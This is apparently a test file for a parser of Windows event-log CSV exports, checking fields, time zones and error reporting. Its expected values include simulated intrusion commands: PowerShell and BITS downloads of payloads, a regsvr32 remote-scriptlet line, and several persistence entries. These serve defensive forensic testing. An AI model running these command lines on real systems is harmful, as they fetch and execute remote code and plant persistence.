import t from 'tap'
import {csvParser} from '../../src/parsers/csv/index.js'
import {runParser} from '../windows-event/run-parser.js'

const S = 'samples/csv'

t.test('EvtxECmd CSV: Payload JSON gives the same facets as EVTX; times are UTC as written', async (t) => {
  const r = await runParser(csvParser, `${S}/evtxecmd.csv`)
  t.strictSame(r.issues, [])
  t.equal(r.records, 6)
  t.strictSame(r.events.map((e) => [e.source.line, e.source.record, e.eventId, e.action, e.time, e.host]), [
    [2, 1, 1, 'process-start', '2026-12-03T13:05:01.1234567Z', 'WS01.contoso.local'],
    [3, 2, 3, 'bits-job-created', '2026-12-03T13:04:58.0000000Z', 'WS01.contoso.local'],
    [4, 3, 60, 'bits-transfer-stopped', '2026-12-03T13:04:59.5000000Z', 'WS01.contoso.local'],
    [5, 4, 4698, 'task-registered', '2026-12-03T13:06:10.2500000Z', 'WS01.contoso.local'],
    [6, 5, 7045, 'service-installed', '2026-12-03T13:07:00.0000000Z', 'WS01.contoso.local'],
    [7, 6, 13, 'registry-value-set', '2026-12-03T13:08:30.9990000Z', 'WS01.contoso.local'],
  ])
  const [p, job, stop, task, svc, reg] = r.events
  t.equal(p!.timeZoneBasis, undefined, 'EvtxECmd writes UTC: no zone basis')
  t.strictSame(p!.process, {
    image: 'C:\\Windows\\System32\\cmd.exe', commandLine: '"C:\\Windows\\System32\\cmd.exe" /c notepad.exe', pid: 4242, guid: '{5e1f0a2b-1111-2222-3333-444455556666}',
    user: 'CONTOSO\\alice', integrity: 'Medium', currentDirectory: 'C:\\Windows\\system32\\', hashes: 'MD5=0123456789ABCDEF0123456789ABCDEF',
    parentImage: 'C:\\Windows\\System32\\svchost.exe', parentCommandLine: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s BITS', parentPid: 812,
    parentGuid: '{5e1f0a2b-0000-0000-0000-000000000812}', parentUser: 'NT AUTHORITY\\SYSTEM',
  })
  t.equal(p!.data?.MapDescription, 'Process creation')
  t.equal(p!.data?.PayloadData1, 'ProcessID: 4242, ProcessGUID: 5e1f0a2b-1111-2222-3333-444455556666')
  t.equal(p!.data?.Payload, undefined, 'the Payload JSON is unpacked, not kept twice')
  t.strictSame(job!.bits, {id: '{6B3C4D1E-2F30-4A5B-9C8D-7E6F5A4B3C2D}', title: 'upd job', owner: 'CONTOSO\\alice', creatingProcess: 'C:\\Windows\\System32\\bitsadmin.exe', creatingPid: 5120})
  t.strictSame(job!.user, {domain: 'CONTOSO', name: 'alice', sid: 'S-1-5-21-1111-2222-3333-1001'})
  t.strictSame(stop!.bits, {
    id: '{6B3C4D1E-2F30-4A5B-9C8D-7E6F5A4B3C2D}', title: 'upd job', files: [{url: 'http://198.51.100.7/a.ps1', bytesTotal: 2048, bytesTransferred: 2048}],
    bytesTransferred: 2048, bytesTotal: 2048, hresult: '0x80190194',
  })
  t.strictSame(task!.task, {
    triggers: [{type: 'Logon', enabled: true}], actions: [{type: 'exec', command: 'C:\\Windows\\System32\\bitsadmin.exe', arguments: '/resume "upd job"'}],
    uri: '\\Updater', author: 'CONTOSO\\mallory', principal: {id: 'Author', userId: 'S-1-5-21-1111-2222-3333-1001', logonType: 'InteractiveToken', runLevel: 'HighestAvailable'},
    hidden: true, path: '\\Updater',
  })
  t.strictSame(svc!.service, {name: 'updsvc', imagePath: 'C:\\ProgramData\\upd\\updsvc.exe', serviceType: 'user mode service', startType: 'auto start', account: 'LocalSystem'})
  t.strictSame(reg!.registry, {key: 'HKU\\S-1-5-21-1111-2222-3333-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', operation: 'set', value: 'Updater', data: 'C:\\ProgramData\\upd\\run.cmd "x, y"'})
})

t.test('Kibana CSV, comma, BOM, embedded newlines and quotes; local times read in the source zone', async (t) => {
  const r = await runParser(csvParser, `${S}/kibana-comma.csv`)
  t.strictSame(r.issues, [])
  t.equal(r.records, 3)
  const [sysmon, reg, ecs] = r.events
  t.strictSame([sysmon!.source, sysmon!.time, sysmon!.timeZoneBasis, sysmon!.host, sysmon!.eventId, sysmon!.channel], [
    {path: `${S}/kibana-comma.csv`, kind: 'csv', line: 2, record: 1}, '2026-12-03T13:05:01.123Z', 'source-tz', 'ws02', 1, 'Microsoft-Windows-Sysmon/Operational',
  ])
  t.strictSame(sysmon!.process, {
    image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    commandLine: 'powershell.exe -NoP -c "Start-BitsTransfer -Source \'http://203.0.113.5/p.exe\', -Destination C:\\Users\\Public\\p.exe"\n# second line',
    pid: 6100, parentImage: 'C:\\Windows\\System32\\svchost.exe', parentCommandLine: 'C:\\Windows\\system32\\svchost.exe -k netsvcs',
  })
  t.strictSame(sysmon!.user, {name: 'bob', domain: 'CONTOSO'})
  t.equal(sysmon!.data?.message, 'Process Create:\nRuleName: -')
  t.strictSame([reg!.source.line, reg!.action, reg!.time], [5, 'registry-value-set', '2026-12-03T13:06:00.000Z'])
  t.strictSame(reg!.registry, {key: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', operation: 'set', value: 'Updater', data: '"C:\\ProgramData\\upd\\run.cmd" /q'})
  t.strictSame({...ecs, data: undefined}, {
    source: {path: `${S}/kibana-comma.csv`, kind: 'csv', line: 6, record: 3}, category: 'process', action: 'process-start',
    process: {image: 'C:\\Users\\Public\\p.exe', commandLine: 'C:\\Users\\Public\\p.exe --silent', pid: 7000, parentImage: 'C:\\Windows\\System32\\cmd.exe'},
    message: 'Process started: C:\\Users\\Public\\p.exe --silent (parent C:\\Windows\\System32\\cmd.exe)', time: '2026-12-03T13:09:00.5Z', host: 'ws02', user: {name: 'bob'}, data: undefined,
  })
})

t.test('Kibana CSV with semicolons, CRLF and zone-less ISO times', async (t) => {
  const r = await runParser(csvParser, `${S}/kibana-semicolon.csv`)
  t.strictSame(r.issues, [])
  const [proc, logon] = r.events
  t.strictSame([proc!.source.line, proc!.time, proc!.timeZoneBasis, proc!.action], [2, '2026-12-03T13:05:01.123Z', 'source-tz', 'process-start'])
  t.strictSame(proc!.process, {
    image: 'C:\\Windows\\System32\\bitsadmin.exe', commandLine: 'bitsadmin /SetNotifyCmdLine "upd; job" C:\\Windows\\System32\\cmd.exe "/c start p.exe"\r\nrem tail',
    pid: 6700, user: 'CONTOSO\\carol', integrity: 'High', parentImage: 'C:\\Windows\\System32\\cmd.exe', parentPid: 1000,
  })
  t.strictSame([logon!.source.line, logon!.time, logon!.action, logon!.user, logon!.network], [
    4, '2026-12-03T13:07:30Z', 'logon', {name: 'carol', domain: 'CONTOSO', sid: 'S-1-5-21-1111-2222-3333-1105'}, {sourceIp: '192.0.2.44', sourcePort: 50122},
  ])
})

t.test('generic tab-separated Windows-event export', async (t) => {
  const r = await runParser(csvParser, `${S}/generic-tab.csv`)
  t.strictSame(r.issues, [])
  t.strictSame(r.events.map((e) => [e.action, e.time, e.timeZoneBasis ?? null, e.host]), [
    ['process-start', '2026-12-03T13:10:00.1234567Z', null, 'ws04'],
    ['file-create', '2026-12-03T13:11:00Z', 'source-tz', 'ws04'],
    ['dns-query', '2026-12-03T13:12:00Z', null, 'ws04'],
  ])
  t.strictSame(r.events[0]!.process, {image: 'C:\\Windows\\System32\\regsvr32.exe', commandLine: 'regsvr32.exe /u /s /i:https://203.0.113.9/x.sct scrobj.dll', user: 'WS04\\dave', parentImage: 'C:\\Windows\\System32\\svchost.exe'})
  t.strictSame(r.events[1]!.file, {path: 'C:\\Users\\dave\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\upd.lnk', operation: 'create'})
  t.strictSame(r.events[2]!.network, {destinationHost: 'updates.example.net'})
})

t.test('damaged quotes: each bad record reported with its line, the rest parsed', async (t) => {
  const path = `${S}/damaged-quotes.csv`
  const r = await runParser(csvParser, path)
  t.strictSame(r.issues, [
    {path, severity: 'error', line: 3, reason: 'CSV record skipped: text after the closing quote of a field (character 115 of the record)'},
    {path, severity: 'error', line: 7, reason: 'CSV record skipped: quoted field not closed before the end of the file'},
  ])
  t.strictSame(r.events.map((e) => [e.source.line, e.process?.commandLine, e.time]), [
    [2, 'cmd.exe /c whoami', '2026-12-03T14:00:00.000Z'],
    [4, 'notepad.exe "C:\\a b.txt"', '2026-12-03T14:00:02.000Z'],
    [5, 'calc.exe', '2026-12-03T14:00:03.000Z'],
    [6, 'more.exe', '2026-12-03T14:00:04.000Z'],
  ])
  t.equal(r.records, 4)
})

t.test('damaged columns and times: reported with line numbers, the rest parsed', async (t) => {
  const path = `${S}/damaged-columns.csv`
  const r = await runParser(csvParser, path)
  t.strictSame(r.issues, [
    {path, severity: 'error', line: 3, reason: 'CSV row skipped: 7 columns where the header has 6'},
    {path, severity: 'error', line: 4, reason: 'CSV row skipped: 4 columns where the header has 6'},
    {path, severity: 'error', line: 6, reason: 'CSV record skipped: text after the closing quote of a field (character 88 of the record)'},
    {path, severity: 'warning', line: 5, reason: '1 row(s) have a time that could not be read (first: "yesterday at noon"); their events have no time'},
  ])
  t.strictSame(r.events.map((e) => [e.source.line, e.process?.image, e.time ?? null]), [
    [2, 'C:\\Windows\\System32\\cmd.exe', '2026-12-03T15:10:00Z'],
    [5, 'C:\\Windows\\System32\\hostname.exe', null],
    [7, 'C:\\Windows\\System32\\net.exe', '2026-12-03T15:10:05Z'],
  ])
  t.equal(r.events[1]!.data?.TimeCreated, 'yesterday at noon')
})
